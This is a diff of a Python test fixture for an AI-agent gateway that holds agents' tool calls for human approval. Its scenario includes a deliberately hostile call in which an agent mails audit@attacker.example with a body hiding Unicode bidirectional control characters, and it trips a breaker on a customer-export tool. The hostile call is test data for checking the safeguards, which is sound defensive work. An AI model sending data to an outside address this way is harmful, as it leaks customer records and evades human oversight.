@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import signal
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -67,7 +68,7 @@ allow contains {"code": "small_payment", "message": "small payments need nobody"
 )
 CUSTOMERS: Final = rule(
     "customers",
-    """escalate contains {"code": "customer_data", "message": "Changes of customer records are looked at."} if {
+    """escalate contains {"code": "customer_data", "message": "Changes of customers are looked at."} if {
     input.tool.name in {"update_customer", "delete_customer"}
 }
 
@@ -166,7 +167,7 @@ class Scene:
         ))["approval_id"]  # fmt: skip
         waiting["mail"] = (await self.call(
             "support-bot", "send_mail", to="ben.okafor@customer.example", subject="Your new tariff",
-            body="Dear Ben,\n\nas agreed on the phone, your tariff is silver from May on.\n\nThe support team",
+            body="Dear Ben,\n\nas agreed on the phone, your tariff is silver from May on.\n\nSupport",
         ))["approval_id"]  # fmt: skip
         for number, status in ((1001, "silver"), (1002, "gold"), (1003, "platinum")):
             waiting[f"customer {number}"] = (await self.call(
@@ -175,11 +176,12 @@ class Scene:
         waiting["delete"] = (await self.call("ops-bot", "delete_customer", customer_id="C-1003"))[
             "approval_id"
         ]
-        waiting["hostile"] = (await self.call(
-            "ops-bot", "send_mail", to="audit@attacker.example", subject=HOSTILE, body="see \u2066above\u2069",
-        ))["approval_id"]  # fmt: skip
-        await self.api("ada", "POST", "/v1/breakers/trip",
-                       {"scope": "tool", "name": "office/export_customers", "reason": "Looked at after a try."})  # fmt: skip
+        hostile = await self.call(
+            "ops-bot", "send_mail", to="audit@attacker.example", subject=HOSTILE, body="\u2066above\u2069"
+        )
+        waiting["hostile"] = hostile["approval_id"]
+        stop = {"scope": "tool", "name": "office/export_customers", "reason": "Looked at after a try."}
+        await self.api("ada", "POST", "/v1/breakers/trip", stop)
         return waiting
 
 
@@ -196,7 +198,7 @@ def scene(folder: Path, **sections: Any) -> Iterator[Scene]:
         url = json.loads(office.stdout.readline())["url"]
         gateway = Wardgate(
             folder / "gateway", {"office": {"url": url, "tools": OFFICE}}, agents=AGENTS,
-            approvals={"chains": CHAIN, "hold_s": 0}, **sections,
+            approvals={"chains": CHAIN, "hold_s": 0, **sections.pop("approvals", {})}, **sections,
         )  # fmt: skip
         for agent in ("alice", "bob"):  # of every test gateway, and not of this company
             del gateway.config["agents"][agent]
@@ -208,7 +210,7 @@ def scene(folder: Path, **sections: Any) -> Iterator[Scene]:
         made = Scene(gateway)
         for name, role in (("ada", "operator"), ("bob", "approver"), ("cleo", "approver"), ("vic", "viewer")):
             made.person(name, role)
-        gateway.start()
+        gateway.start(timeout_s=90)
         yield made
     finally:
         if gateway is not None:
@@ -219,6 +221,7 @@ def scene(folder: Path, **sections: Any) -> Iterator[Scene]:
 
 def main() -> None:
     """Keep one running, to look at: ``python -m tests.browser.scene FOLDER``."""
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
     folder = Path(sys.argv[1])
     folder.mkdir(parents=True, exist_ok=True)
     with scene(folder) as made:
